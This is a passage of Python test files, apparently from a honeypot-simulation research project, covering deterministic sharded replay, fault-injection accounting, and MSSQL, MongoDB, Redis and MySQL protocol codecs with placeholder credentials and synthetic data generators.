        second = [shard_of(key, 4) for key in keys]
        assert first == second
        assert all(0 <= shard < 4 for shard in first)
        # All shards actually receive work.
        assert set(first) == {0, 1, 2, 3}

    def test_single_worker_maps_everything_to_shard_zero(self):
        assert shard_of("anything", 1) == 0

    def test_engine_resolution(self):
        assert isinstance(build_engine(1), SerialExecutor)
        engine = build_engine(4)
        assert isinstance(engine, ShardedExecutor)
        assert engine.workers == 4
        assert isinstance(build_engine(4, "serial"), SerialExecutor)
        with pytest.raises(ValueError):
            build_engine(0)
        with pytest.raises(ValueError):
            build_engine(2, "gpu")

    def test_resolve_workers_auto_matches_cores(self, capsys):
        from repro.deployment import resolve_workers

        assert resolve_workers("auto", cores=4) == 4
        assert resolve_workers("auto", cores=1) == 1
        assert resolve_workers("3", cores=8) == 3
        assert resolve_workers(2, cores=2) == 2
        assert capsys.readouterr().err == ""

    def test_resolve_workers_warns_on_single_core_sharding(self, capsys):
        from repro.deployment import resolve_workers

        assert resolve_workers(4, cores=1) == 4  # honored, but warned
        assert "single-core" in capsys.readouterr().err

    def test_resolve_workers_rejects_garbage(self):
        from repro.deployment import resolve_workers

        with pytest.raises(ValueError):
            resolve_workers("fast")
        with pytest.raises(ValueError):
            resolve_workers(0)


class TestOutcomeStreamEquality:
    def test_sharded_stream_matches_serial_exactly(self):
        # Engine-level check at a tiny scale: the merged sharded stream
        # must equal serial replay outcome-for-outcome, events included
        # (LogEvent is a frozen dataclass, so == is full field equality).
        telemetry = obs.NULL_TELEMETRY

        # Fresh plan/world per run: honeypots mutate during replay.
        def fresh():
            plan = build_plan(seed=SEED)
            world = build_world(seed=SEED, volume_scale=0.0001)
            return plan, compile_visits(world, plan, SEED)

        plan, schedule = fresh()
        reference = list(SerialExecutor().replay(schedule, plan, SEED,
                                                 telemetry))
        plan, schedule = fresh()
        merged = list(ShardedExecutor(2, pool="thread").replay(
            schedule, plan, SEED, telemetry))

        assert [o.key for o in merged] == [o.key for o in reference]
        assert [o.events for o in merged] == [o.events for o in reference]
        assert ([(o.bytes_in, o.bytes_out, o.failure) for o in merged]
                == [(o.bytes_in, o.bytes_out, o.failure)
                    for o in reference])


class TestExperimentEquality:
    def test_same_event_totals(self, serial, sharded):
        assert sharded.events_total == serial.events_total
        assert sharded.events_generated == serial.events_generated
        assert sharded.visits_total == serial.visits_total

    def test_identical_databases_both_tiers(self, serial, sharded):
        assert (table_digests(sharded.low_db)
                == table_digests(serial.low_db))
        assert (table_digests(sharded.midhigh_db)
                == table_digests(serial.midhigh_db))

    def test_manifest_records_shards(self, sharded):
        replay = sharded.report["replay"]
        assert replay["executor"] == "sharded"
        assert replay["workers"] == 4
        assert len(replay["shards"]) == 4
        assert (sum(shard["visits"] for shard in replay["shards"])
                == sharded.visits_total)
        assert (sum(shard["events"] for shard in replay["shards"])
                == sharded.events_generated)
        assert sharded.report["config"]["workers"] == 4

    def test_serial_manifest_records_engine_too(self, serial):
        replay = serial.report["replay"]
        assert replay["executor"] == "serial"
        assert replay["workers"] == 1
        assert serial.report["config"]["workers"] == 1


class TestChaosEquality:
    @pytest.fixture(scope="class")
    def chaos_pair(self, tmp_path_factory):
        serial = run(tmp_path_factory.mktemp("chaos-serial"),
                     fault_plan=faults.load_plan("visit-crash", seed=SEED))
        sharded = run(tmp_path_factory.mktemp("chaos-sharded"), workers=4,
                      fault_plan=faults.load_plan("visit-crash", seed=SEED))
        return serial, sharded

    def test_identical_chaos_accounting(self, chaos_pair):
        serial, sharded = chaos_pair
        assert sharded.quarantined_visits > 0
        assert sharded.events_total == serial.events_total
        assert sharded.events_generated == serial.events_generated
        assert sharded.events_quarantined == serial.events_quarantined
        assert sharded.quarantined_visits == serial.quarantined_visits
        assert sharded.conservation_ok and serial.conservation_ok

    def test_identical_fault_decisions(self, chaos_pair):
        serial, sharded = chaos_pair
        assert (sharded.config.fault_plan.snapshot()
                == serial.config.fault_plan.snapshot())

    def test_same_visits_reach_the_dead_letter(self, chaos_pair):
        serial, sharded = chaos_pair
        from repro.resilience import read_dead_letters

        def quarantined(result):
            return sorted((r["actor"], r["seq"], r["target"])
                          for r in read_dead_letters(
                              result.quarantine_path))

        assert quarantined(sharded) == quarantined(serial)

    def test_identical_databases_under_chaos(self, chaos_pair):
        serial, sharded = chaos_pair
        assert (table_digests(sharded.low_db)
                == table_digests(serial.low_db))
        assert (table_digests(sharded.midhigh_db)
                == table_digests(serial.midhigh_db))


class TestLiveShardedEquality:
    """A live-telemetry run is still byte-identical to serial: the bus
    only observes the worker registries, so streaming shard deltas,
    progress lines, and partial snapshots must not perturb replay."""

    @pytest.fixture(scope="class")
    def live(self, tmp_path_factory):
        output = tmp_path_factory.mktemp("live-sharded")
        return run_experiment(ExperimentConfig(
            seed=SEED, volume_scale=SCALE, output_dir=output,
            telemetry=True, workers=4, live_interval=0.01))

    def test_identical_databases_with_live_bus(self, serial, live):
        assert live.events_total == serial.events_total
        assert table_digests(live.low_db) == table_digests(serial.low_db)
        assert (table_digests(live.midhigh_db)
                == table_digests(serial.midhigh_db))

    def test_delta_merge_invariant_holds(self, live):
        stats = live.report["replay"]["live"]
        assert stats["emissions"] >= 4  # at least one flush per shard
        assert stats["callback_errors"] == 0
        assert stats["equals_merged"] is True

    def test_manifest_live_section(self, live):
        section = live.report["live"]
        assert section["emissions"] >= 4
        assert section["progress_lines"] >= 1
        assert section["partial_snapshots"] >= 1
        assert live.report["config"]["live_interval"] == 0.01

    def test_run_id_correlates_manifest_and_ops_log(self, live):
        import json as json_module

        run_id = live.report["run_id"]
        assert len(run_id) == 12
        ops_path = live.config.output_dir / "ops.jsonl"
        records = [json_module.loads(line)
                   for line in ops_path.read_text().splitlines()]
        events = {record["event"] for record in records}
        assert {"run.start", "run.done"} <= events
        assert all(record["run_id"] == run_id for record in records
                   if "run_id" in record)
        # The driver-side records all carry the run correlation id.
        assert all("run_id" in record for record in records
                   if record["event"].startswith("run."))

    def test_no_flight_dumps_on_clean_run(self, live):
        dumps = list(live.config.output_dir.glob("flight*"))
        assert dumps == []

    def test_plain_sharded_run_has_no_live_section(self, sharded):
        assert sharded.report["replay"]["live"] is None
        assert sharded.report["live"] is None
