"""Tests for the TDS (MSSQL) codec."""

import pytest
from hypothesis import given, strategies as st

from repro.protocols import tds
from repro.protocols.errors import ProtocolError


class TestFraming:
    def test_frame_and_read(self):
        reader = tds.PacketReader()
        packets = reader.feed(tds.frame(tds.PKT_PRELOGIN, b"x"))
        assert packets == [(tds.PKT_PRELOGIN, b"x")]

    def test_partial_packets_buffer(self):
        reader = tds.PacketReader()
        data = tds.frame(tds.PKT_LOGIN7, b"abcdef")
        assert reader.feed(data[:4]) == []
        assert reader.feed(data[4:]) == [(tds.PKT_LOGIN7, b"abcdef")]

    def test_multi_packet_message_reassembled(self):
        part1 = tds.frame(tds.PKT_LOGIN7, b"aaa", status=0)
        part2 = tds.frame(tds.PKT_LOGIN7, b"bbb", status=tds.STATUS_EOM)
        reader = tds.PacketReader()
        assert reader.feed(part1) == []
        assert reader.feed(part2) == [(tds.PKT_LOGIN7, b"aaabbb")]

    def test_invalid_length_raises(self):
        with pytest.raises(ProtocolError):
            tds.PacketReader().feed(b"\x10\x01\x00\x02\x00\x00\x01\x00")


class TestPrelogin:
    def test_roundtrip_default(self):
        options = tds.parse_prelogin(tds.build_prelogin())
        assert tds.PRELOGIN_VERSION in options
        assert options[tds.PRELOGIN_ENCRYPTION] == bytes(
            [tds.ENCRYPT_NOT_SUP])

    def test_roundtrip_custom(self):
        raw = tds.build_prelogin({tds.PRELOGIN_MARS: b"\x00",
                                  tds.PRELOGIN_THREADID: b"\x01\x02"})
        options = tds.parse_prelogin(raw)
        assert options == {tds.PRELOGIN_MARS: b"\x00",
                           tds.PRELOGIN_THREADID: b"\x01\x02"}

    def test_unterminated_option_list_raises(self):
        with pytest.raises(ProtocolError):
            tds.parse_prelogin(b"\x00\x00\x06\x00\x01")


class TestPasswordObfuscation:
    def test_roundtrip(self):
        assert tds.deobfuscate_password(
            tds.obfuscate_password("P@ssw0rd!")) == "P@ssw0rd!"

    def test_empty(self):
        assert tds.obfuscate_password("") == b""

    @given(st.text(max_size=64))
    def test_roundtrip_property(self, password):
        assert tds.deobfuscate_password(
            tds.obfuscate_password(password)) == password


class TestLogin7:
    def test_roundtrip(self):
        raw = tds.build_login7("sa", "123", hostname="WIN-1",
                               app_name="sqlcmd", database="master")
        parsed = tds.parse_login7(raw)
        assert parsed.username == "sa"
        assert parsed.password == "123"
        assert parsed.hostname == "WIN-1"
        assert parsed.app_name == "sqlcmd"
        assert parsed.database == "master"
        assert parsed.tds_version == tds.TDS_VERSION_74

    def test_empty_password(self):
        parsed = tds.parse_login7(tds.build_login7("hbv7", ""))
        assert parsed.username == "hbv7"
        assert parsed.password == ""

    def test_truncated_raises(self):
        raw = tds.build_login7("sa", "x")
        with pytest.raises(ProtocolError):
            tds.parse_login7(raw[:20])

    @given(st.text(alphabet=st.characters(min_codepoint=33,
                                          max_codepoint=0x2FF),
                   min_size=1, max_size=20),
           st.text(alphabet=st.characters(min_codepoint=32,
                                          max_codepoint=0x2FF),
                   max_size=30))
    def test_credentials_roundtrip_property(self, username, password):
        parsed = tds.parse_login7(tds.build_login7(username, password))
        assert parsed.username == username
        assert parsed.password == password


class TestTokens:
    def test_error_token_roundtrip(self):
        raw = tds.build_error_token(
            tds.MSSQL_LOGIN_FAILED, "Login failed for user 'sa'.")
        (token,) = tds.parse_tokens(raw)
        assert token.number == tds.MSSQL_LOGIN_FAILED
        assert "Login failed" in token.message
        assert token.severity == 14

    def test_loginack_and_done(self):
        raw = tds.build_loginack_token() + tds.build_done_token()
        tokens = tds.parse_tokens(raw)
        assert tokens == ["LOGINACK", "DONE"]

    def test_unknown_token_raises(self):
        with pytest.raises(ProtocolError):
            tds.parse_tokens(b"\x42\x00\x00")
