"""Shared fixtures.

The end-to-end experiment is expensive, so one heavily-downscaled run is
shared across the whole session (``small_experiment``); unit tests build
their own tiny worlds instead.
"""

from __future__ import annotations

import pytest

from repro.deployment import ExperimentConfig, run_experiment
from repro.honeypots.base import SessionContext
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import LogStore


@pytest.fixture
def clock() -> SimClock:
    return SimClock()


@pytest.fixture
def log_store() -> LogStore:
    return LogStore()


@pytest.fixture
def session_context(clock, log_store) -> SessionContext:
    return SessionContext(src_ip="203.0.113.7", src_port=40000,
                          clock=clock, sink=log_store.append)


@pytest.fixture(scope="session")
def small_experiment(tmp_path_factory):
    """One downscaled full experiment, shared by integration tests."""
    output = tmp_path_factory.mktemp("experiment")
    return run_experiment(ExperimentConfig(
        seed=1234, volume_scale=0.0005, output_dir=output))
