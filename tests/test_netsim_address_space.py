"""Tests for the synthetic address space and AS registry."""

import ipaddress

import pytest

from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASDatabase, ASType


@pytest.fixture
def space() -> AddressSpace:
    space = AddressSpace()
    space.register_as(64500, "HOSTCO", "Germany", ASType.HOSTING)
    space.register_as(64501, "TELECOM-NL", "Netherlands", ASType.TELECOM)
    return space


def test_each_as_gets_distinct_slash16(space):
    prefixes = [system.prefix for system in space.systems()]
    assert len(set(prefixes)) == 2
    assert all(prefix.prefixlen == 16 for prefix in prefixes)
    assert prefixes[0].network_address != prefixes[1].network_address


def test_allocation_is_sequential_and_unique(space):
    first = space.allocate(64500)
    second = space.allocate(64500)
    assert int(second) == int(first) + 1
    assert first in space.system(64500).prefix


def test_allocation_records_country_and_asn(space):
    ip = space.allocate(64500, country="Russia")
    assert space.lookup_country(ip) == "Russia"
    assert space.lookup_asn(ip) == 64500


def test_allocation_defaults_to_registration_country(space):
    ip = space.allocate(64501)
    assert space.lookup_country(ip) == "Netherlands"


def test_lookup_unallocated_returns_none(space):
    assert space.lookup_asn("198.51.100.1") is None
    assert space.lookup_country("198.51.100.1") is None


def test_allocate_unknown_as_raises(space):
    with pytest.raises(KeyError):
        space.allocate(65999)


def test_idempotent_reregistration(space):
    system = space.register_as(64500, "HOSTCO", "Germany", ASType.HOSTING)
    assert system.asn == 64500
    assert len(space.systems()) == 2


def test_conflicting_reregistration_raises(space):
    with pytest.raises(ValueError):
        space.register_as(64500, "OTHER", "Germany", ASType.HOSTING)


def test_allocated_counts_all_allocations(space):
    for _ in range(5):
        space.allocate(64500)
    space.allocate(64501)
    assert space.allocated() == 6


def test_prefix_exhaustion_raises():
    space = AddressSpace()
    space.register_as(64502, "TINY", "X", ASType.UNKNOWN)
    space._next_host[64502] = (1 << 16) - 1
    with pytest.raises(RuntimeError):
        space.allocate(64502)


def test_avoids_reserved_low_ranges(space):
    ip = space.allocate(64500)
    assert int(ip) >= int(ipaddress.IPv4Address("20.0.0.0"))


class TestASDatabase:
    def test_classify_registered(self):
        db = ASDatabase()
        db.register(1, ASType.SECURITY)
        assert db.classify(1) is ASType.SECURITY

    def test_classify_unregistered_is_unknown(self):
        assert ASDatabase().classify(99) is ASType.UNKNOWN

    def test_classify_none_is_unknown(self):
        assert ASDatabase().classify(None) is ASType.UNKNOWN

    def test_conflicting_registration_raises(self):
        db = ASDatabase()
        db.register(1, ASType.SECURITY)
        with pytest.raises(ValueError):
            db.register(1, ASType.HOSTING)

    def test_repeat_registration_same_type_ok(self):
        db = ASDatabase()
        db.register(1, ASType.SECURITY)
        db.register(1, ASType.SECURITY)
        assert len(db) == 1

    def test_contains(self):
        db = ASDatabase()
        db.register(7, ASType.TELECOM)
        assert 7 in db
        assert 8 not in db
