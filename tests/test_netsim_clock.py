"""Tests for the simulated clock."""

from datetime import datetime, timedelta, timezone

import pytest

from repro.netsim.clock import (EXPERIMENT_DAYS, EXPERIMENT_END,
                                EXPERIMENT_START, SimClock)


def test_defaults_to_experiment_start():
    assert SimClock().now() == EXPERIMENT_START


def test_experiment_window_is_twenty_days():
    assert EXPERIMENT_DAYS == 20
    assert EXPERIMENT_END - EXPERIMENT_START == timedelta(days=20)


def test_advance_moves_time_forward():
    clock = SimClock()
    clock.advance(days=1, hours=2, minutes=3, seconds=4)
    assert clock.elapsed() == timedelta(days=1, hours=2, minutes=3,
                                        seconds=4)


def test_advance_rejects_negative_offsets():
    clock = SimClock()
    with pytest.raises(ValueError):
        clock.advance(seconds=-1)


def test_seek_forward_and_refuse_backwards():
    clock = SimClock()
    target = EXPERIMENT_START + timedelta(hours=5)
    clock.seek(target)
    assert clock.now() == target
    with pytest.raises(ValueError):
        clock.seek(EXPERIMENT_START)


def test_seek_to_current_time_is_allowed():
    clock = SimClock()
    clock.seek(clock.now())
    assert clock.elapsed() == timedelta(0)


def test_day_and_hour_indices():
    clock = SimClock()
    assert clock.day_index() == 0
    assert clock.hour_index() == 0
    clock.advance(days=2, hours=5)
    assert clock.day_index() == 2
    assert clock.hour_index() == 53


def test_timestamp_is_posix():
    clock = SimClock()
    assert clock.timestamp() == EXPERIMENT_START.timestamp()


def test_requires_timezone_aware_start():
    with pytest.raises(ValueError):
        SimClock(start=datetime(2024, 3, 22))


def test_custom_start():
    start = datetime(2025, 1, 1, tzinfo=timezone.utc)
    clock = SimClock(start=start)
    clock.advance(hours=1)
    assert clock.now() == start + timedelta(hours=1)
