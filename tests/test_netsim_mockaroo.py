"""Tests for the fake-data generator."""

import pytest

from repro.netsim.mockaroo import MockarooGenerator, luhn_valid


def test_customer_record_shape():
    record = MockarooGenerator(seed=1).customer()
    document = record.as_document()
    assert set(document) == {"first_name", "last_name", "address",
                             "phone", "credit_card"}
    assert record.first_name
    assert "," in record.address
    assert record.phone.startswith("+")


def test_credit_cards_are_luhn_valid():
    generator = MockarooGenerator(seed=2)
    for record in generator.customers(50):
        assert luhn_valid(record.credit_card), record.credit_card
        assert len(record.credit_card) == 16


def test_luhn_rejects_corrupted_numbers():
    generator = MockarooGenerator(seed=3)
    card = generator.customer().credit_card
    corrupted = card[:-1] + str((int(card[-1]) + 1) % 10)
    assert not luhn_valid(corrupted)


def test_luhn_rejects_non_digits():
    assert not luhn_valid("4111-1111-1111-1111")
    assert not luhn_valid("")


def test_same_seed_same_records():
    a = MockarooGenerator(seed=42).customers(10)
    b = MockarooGenerator(seed=42).customers(10)
    assert a == b


def test_different_seeds_differ():
    a = MockarooGenerator(seed=1).customers(10)
    b = MockarooGenerator(seed=2).customers(10)
    assert a != b


def test_login_entries_count_and_shape():
    entries = MockarooGenerator(seed=5).login_entries(200)
    assert len(entries) == 200
    for entry in entries[:10]:
        assert "." in entry.username
        assert entry.password


def test_negative_counts_rejected():
    generator = MockarooGenerator()
    with pytest.raises(ValueError):
        generator.customers(-1)
    with pytest.raises(ValueError):
        generator.login_entries(-1)
