"""Tests for the MongoDB wire protocol codec."""

import pytest

from repro.protocols import mongo_wire as wire
from repro.protocols.errors import ProtocolError


class TestOpMsg:
    def test_roundtrip(self):
        reader = wire.MessageReader()
        (message,) = reader.feed(wire.build_msg(
            7, {"find": "users", "$db": "app"}))
        assert isinstance(message, wire.MsgMessage)
        assert message.header.request_id == 7
        assert message.body == {"find": "users", "$db": "app"}

    def test_response_to_propagates(self):
        reader = wire.MessageReader()
        (message,) = reader.feed(wire.build_msg(2, {"ok": 1.0},
                                                response_to=9))
        assert message.header.response_to == 9

    def test_partial_messages_buffer(self):
        reader = wire.MessageReader()
        data = wire.build_msg(1, {"ping": 1})
        assert reader.feed(data[:7]) == []
        (message,) = reader.feed(data[7:])
        assert message.body == {"ping": 1}

    def test_multiple_messages(self):
        reader = wire.MessageReader()
        data = wire.build_msg(1, {"a": 1}) + wire.build_msg(2, {"b": 2})
        messages = reader.feed(data)
        assert [m.body for m in messages] == [{"a": 1}, {"b": 2}]


class TestOpQueryReply:
    def test_query_roundtrip(self):
        reader = wire.MessageReader()
        (message,) = reader.feed(wire.build_query(
            3, "admin.$cmd", {"isMaster": 1}, number_to_return=-1))
        assert isinstance(message, wire.QueryMessage)
        assert message.collection == "admin.$cmd"
        assert message.query == {"isMaster": 1}
        assert message.number_to_return == -1

    def test_reply_roundtrip(self):
        reader = wire.MessageReader()
        (message,) = reader.feed(wire.build_reply(
            4, 3, [{"ok": 1.0}, {"extra": True}]))
        assert isinstance(message, wire.ReplyMessage)
        assert message.header.response_to == 3
        assert message.documents == [{"ok": 1.0}, {"extra": True}]


class TestErrors:
    def test_bad_length_raises(self):
        with pytest.raises(ProtocolError):
            wire.MessageReader().feed(b"\x01\x00\x00\x00" + b"\x00" * 12)

    def test_unknown_opcode_raises(self):
        import struct
        header = struct.pack("<iiii", 16, 1, 0, 9999)
        with pytest.raises(ProtocolError):
            wire.MessageReader().feed(header)

    def test_msg_without_body_section_raises(self):
        import struct
        body = struct.pack("<I", 0)
        header = struct.pack("<iiii", 16 + len(body), 1, 0, wire.OP_MSG)
        with pytest.raises(ProtocolError):
            wire.MessageReader().feed(header + body)
