"""Tests for the RESP2 codec."""

import pytest
from hypothesis import given, strategies as st

from repro.protocols import resp
from repro.protocols.errors import ProtocolError


class TestEncode:
    def test_simple_string(self):
        assert resp.encode(resp.SimpleString("OK")) == b"+OK\r\n"

    def test_simple_string_rejects_crlf(self):
        with pytest.raises(TypeError):
            resp.encode(resp.SimpleString("a\r\nb"))

    def test_error(self):
        assert resp.encode(resp.Error("ERR boom")) == b"-ERR boom\r\n"

    def test_integer(self):
        assert resp.encode(42) == b":42\r\n"

    def test_negative_integer(self):
        assert resp.encode(-7) == b":-7\r\n"

    def test_bulk_string(self):
        assert resp.encode(b"ab") == b"$2\r\nab\r\n"

    def test_str_becomes_bulk(self):
        assert resp.encode("hi") == b"$2\r\nhi\r\n"

    def test_null(self):
        assert resp.encode(None) == b"$-1\r\n"

    def test_array(self):
        assert resp.encode([1, b"x"]) == b"*2\r\n:1\r\n$1\r\nx\r\n"

    def test_empty_array(self):
        assert resp.encode([]) == b"*0\r\n"

    def test_bool_rejected(self):
        with pytest.raises(TypeError):
            resp.encode(True)

    def test_unsupported_type_rejected(self):
        with pytest.raises(TypeError):
            resp.encode(object())


class TestParser:
    def test_partial_frames_buffer(self):
        parser = resp.RespParser()
        assert parser.feed(b"$5\r\nhel") == []
        assert parser.feed(b"lo\r\n") == [b"hello"]
        assert parser.pending() == 0

    def test_byte_at_a_time(self):
        parser = resp.RespParser()
        values = []
        for byte in resp.encode_command("SET", "k", "v"):
            values += parser.feed(bytes([byte]))
        assert values == [[b"SET", b"k", b"v"]]

    def test_multiple_values_in_one_feed(self):
        parser = resp.RespParser()
        data = resp.encode(1) + resp.encode(b"x") + resp.encode(None)
        assert parser.feed(data) == [1, b"x", None]

    def test_inline_command(self):
        parser = resp.RespParser()
        assert parser.feed(b"CONFIG GET dir\r\n") == [
            [b"CONFIG", b"GET", b"dir"]]

    def test_inline_lf_only(self):
        parser = resp.RespParser()
        assert parser.feed(b"PING\n") == [[b"PING"]]

    def test_blank_inline_lines_skipped(self):
        parser = resp.RespParser()
        assert parser.feed(b"\r\n\r\nPING\r\n") == [[b"PING"]]

    def test_nested_arrays(self):
        payload = resp.encode([[b"a"], [1, None]])
        assert resp.RespParser().feed(payload) == [[[b"a"], [1, None]]]

    def test_null_array(self):
        assert resp.RespParser().feed(b"*-1\r\n") == [None]

    def test_bad_bulk_length_raises(self):
        with pytest.raises(ProtocolError):
            resp.RespParser().feed(b"$-5\r\n")

    def test_oversized_bulk_raises(self):
        with pytest.raises(ProtocolError):
            resp.RespParser().feed(b"$999999999999\r\n")

    def test_missing_bulk_terminator_raises(self):
        with pytest.raises(ProtocolError):
            resp.RespParser().feed(b"$2\r\nabXX")

    def test_non_integer_length_raises(self):
        with pytest.raises(ProtocolError):
            resp.RespParser().feed(b"$xx\r\n")

    def test_take_pending_returns_and_clears(self):
        parser = resp.RespParser()
        parser.feed(b"JDWP-Handshake")
        assert parser.take_pending() == b"JDWP-Handshake"
        assert parser.pending() == 0


class TestCommandTokens:
    def test_accepts_bulk_array(self):
        assert resp.command_tokens([b"GET", b"k"]) == [b"GET", b"k"]

    def test_rejects_non_command(self):
        with pytest.raises(ProtocolError):
            resp.command_tokens(42)

    def test_rejects_mixed_array(self):
        with pytest.raises(ProtocolError):
            resp.command_tokens([b"GET", 1])


class TestHelpers:
    def test_encode_command_requires_args(self):
        with pytest.raises(ValueError):
            resp.encode_command()

    def test_encode_inline_rejects_newlines(self):
        with pytest.raises(ValueError):
            resp.encode_inline_command("a\nb")


@given(st.lists(st.one_of(
    st.integers(min_value=-2**60, max_value=2**60),
    st.binary(max_size=64),
    st.none(),
), max_size=8))
def test_roundtrip_arrays(items):
    parser = resp.RespParser()
    values = parser.feed(resp.encode(items))
    assert values == [items]
    assert parser.pending() == 0


@given(st.lists(st.binary(min_size=1, max_size=32), min_size=1,
                max_size=6))
def test_roundtrip_commands(args):
    encoded = resp.encode_command(*args)
    values = resp.RespParser().feed(encoded)
    assert resp.command_tokens(values[0]) == args


@given(st.binary(max_size=256), st.integers(min_value=1, max_value=7))
def test_parser_never_loses_data_across_chunk_boundaries(payload, step):
    whole = resp.RespParser()
    chunked = resp.RespParser()
    try:
        expected = whole.feed(resp.encode(payload))
    except ProtocolError:
        return
    got = []
    encoded = resp.encode(payload)
    for start in range(0, len(encoded), step):
        got += chunked.feed(encoded[start:start + step])
    assert got == expected
