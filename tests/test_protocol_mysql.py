"""Tests for the MySQL protocol codec."""

import pytest
from hypothesis import given, strategies as st

from repro.protocols import mysql
from repro.protocols.errors import ProtocolError

SALT = bytes(range(20))


class TestFraming:
    def test_frame_and_read(self):
        reader = mysql.PacketReader()
        packets = reader.feed(mysql.frame(b"abc", 3))
        assert packets == [(3, b"abc")]

    def test_split_across_feeds(self):
        reader = mysql.PacketReader()
        data = mysql.frame(b"payload", 0)
        assert reader.feed(data[:5]) == []
        assert reader.feed(data[5:]) == [(0, b"payload")]

    def test_multiple_packets(self):
        reader = mysql.PacketReader()
        data = mysql.frame(b"a", 0) + mysql.frame(b"b", 1)
        assert reader.feed(data) == [(0, b"a"), (1, b"b")]

    def test_sequence_id_range_validated(self):
        with pytest.raises(ValueError):
            mysql.frame(b"", 256)


class TestHandshake:
    def test_roundtrip(self):
        raw = mysql.build_handshake_v10("8.0.36", 99, SALT)
        parsed = mysql.parse_handshake_v10(raw)
        assert parsed.server_version == "8.0.36"
        assert parsed.thread_id == 99
        assert parsed.auth_plugin_data == SALT
        assert parsed.auth_plugin_name == mysql.NATIVE_PASSWORD_PLUGIN
        assert parsed.capabilities & mysql.CLIENT_PROTOCOL_41

    def test_salt_minimum_length(self):
        with pytest.raises(ValueError):
            mysql.build_handshake_v10("8.0", 1, b"short")

    def test_reject_non_handshake(self):
        with pytest.raises(ProtocolError):
            mysql.parse_handshake_v10(b"\xffgarbage")


class TestHandshakeResponse:
    def test_roundtrip_with_database(self):
        raw = mysql.build_handshake_response("root", b"\x01" * 20,
                                             database="mysql")
        parsed = mysql.parse_handshake_response(raw)
        assert parsed.username == "root"
        assert parsed.auth_response == b"\x01" * 20
        assert parsed.database == "mysql"
        assert parsed.auth_plugin_name == mysql.NATIVE_PASSWORD_PLUGIN

    def test_roundtrip_without_database(self):
        raw = mysql.build_handshake_response("sa", b"")
        parsed = mysql.parse_handshake_response(raw)
        assert parsed.username == "sa"
        assert parsed.database is None

    def test_rejects_pre41_clients(self):
        import struct
        payload = struct.pack("<IIB", 0, 0, 0) + b"\x00" * 23
        with pytest.raises(ProtocolError):
            mysql.parse_handshake_response(payload)

    def test_rejects_overlong_auth_response(self):
        with pytest.raises(ValueError):
            mysql.build_handshake_response("u", b"\x00" * 256)


class TestAuthSwitch:
    def test_roundtrip(self):
        raw = mysql.build_auth_switch_request(
            mysql.CLEAR_PASSWORD_PLUGIN, b"data")
        plugin, data = mysql.parse_auth_switch_request(raw)
        assert plugin == mysql.CLEAR_PASSWORD_PLUGIN
        assert data == b"data"
        assert mysql.is_auth_switch(raw)

    def test_clear_password_roundtrip(self):
        raw = mysql.build_clear_password_response("hunter2")
        assert mysql.parse_clear_password(raw) == "hunter2"

    def test_reject_non_switch(self):
        with pytest.raises(ProtocolError):
            mysql.parse_auth_switch_request(b"\x00")


class TestOkErr:
    def test_ok_detection(self):
        assert mysql.is_ok(mysql.build_ok())
        assert not mysql.is_err(mysql.build_ok())

    def test_err_roundtrip(self):
        raw = mysql.build_err(1045, "28000", "Access denied")
        parsed = mysql.parse_err(raw)
        assert parsed.code == 1045
        assert parsed.sql_state == "28000"
        assert parsed.message == "Access denied"
        assert mysql.is_err(raw)

    def test_err_requires_five_char_state(self):
        with pytest.raises(ValueError):
            mysql.build_err(1, "28", "x")

    def test_parse_err_rejects_ok(self):
        with pytest.raises(ProtocolError):
            mysql.parse_err(mysql.build_ok())


@given(st.text(alphabet=st.characters(min_codepoint=33,
                                      max_codepoint=126),
               min_size=1, max_size=32),
       st.binary(max_size=20))
def test_handshake_response_roundtrip_property(username, auth):
    raw = mysql.build_handshake_response(username, auth)
    parsed = mysql.parse_handshake_response(raw)
    assert parsed.username == username
    assert parsed.auth_response == auth


@given(st.integers(min_value=0, max_value=0xFFFF),
       st.text(alphabet="0123456789ABCDEF", min_size=5, max_size=5),
       st.text(max_size=64))
def test_err_roundtrip_property(code, state, message):
    parsed = mysql.parse_err(mysql.build_err(code, state, message))
    assert (parsed.code, parsed.sql_state) == (code, state)
    assert parsed.message == message
