"""Chaos integration: the full experiment under fault injection.

The conservation invariant ``events_generated == events_stored +
events_quarantined`` must hold under every fault class, runs must be
deterministic for a fixed seed, and a clean run must be bit-identical
to one that never imported the resilience machinery.
"""

import json

import pytest

from repro.deployment import ExperimentConfig, run_experiment
from repro.pipeline.convert import count_events
from repro.resilience import faults, read_dead_letters

SCALE = 0.0002


def chaos_config(tmp_path, plan_name, seed=2024, **overrides):
    plan = faults.load_plan(plan_name, seed=seed)
    defaults = dict(seed=seed, volume_scale=SCALE, output_dir=tmp_path,
                    telemetry=True, fault_plan=plan)
    defaults.update(overrides)
    return ExperimentConfig(**defaults)


@pytest.fixture(scope="module")
def clean_run(tmp_path_factory):
    return run_experiment(ExperimentConfig(
        seed=2024, volume_scale=SCALE,
        output_dir=tmp_path_factory.mktemp("clean")))


class TestConservation:
    def test_all_faults_zero_loss(self, tmp_path):
        result = run_experiment(chaos_config(tmp_path, "all"))
        assert result.conservation_ok
        assert result.events_generated > 0
        assert result.config.fault_plan.fires_total() > 0
        # Faults actually altered the run.
        assert result.quarantined_visits > 0

    def test_clean_run_has_trivial_conservation(self, clean_run):
        assert clean_run.conservation_ok
        assert clean_run.events_quarantined == 0
        assert clean_run.quarantined_visits == 0
        assert clean_run.quarantine_path is None
        assert clean_run.events_generated == clean_run.events_total

    def test_no_quarantine_file_on_clean_run(self, clean_run):
        assert not (clean_run.config.output_dir
                    / "quarantine.jsonl").exists()


class TestDeterminism:
    def test_same_seed_same_outcome(self, tmp_path):
        first = run_experiment(chaos_config(tmp_path / "a", "all"))
        second = run_experiment(chaos_config(tmp_path / "b", "all"))
        assert first.events_total == second.events_total
        assert first.events_generated == second.events_generated
        assert first.events_quarantined == second.events_quarantined
        assert first.quarantined_visits == second.quarantined_visits
        assert (first.config.fault_plan.snapshot()
                == second.config.fault_plan.snapshot())

    def test_different_seed_different_faults(self, tmp_path):
        first = run_experiment(chaos_config(tmp_path / "a", "wire-corrupt",
                                            seed=1))
        second = run_experiment(chaos_config(tmp_path / "b", "wire-corrupt",
                                             seed=2))
        assert (first.config.fault_plan.snapshot()
                != second.config.fault_plan.snapshot())


class TestQuarantine:
    def test_crashed_visits_reach_dead_letter(self, tmp_path):
        plan = faults.FaultPlan(
            [faults.FaultSpec("visit.crash", probability=0.05)], seed=5,
            name="crashy")
        result = run_experiment(ExperimentConfig(
            seed=2024, volume_scale=SCALE, output_dir=tmp_path,
            telemetry=True, fault_plan=plan))
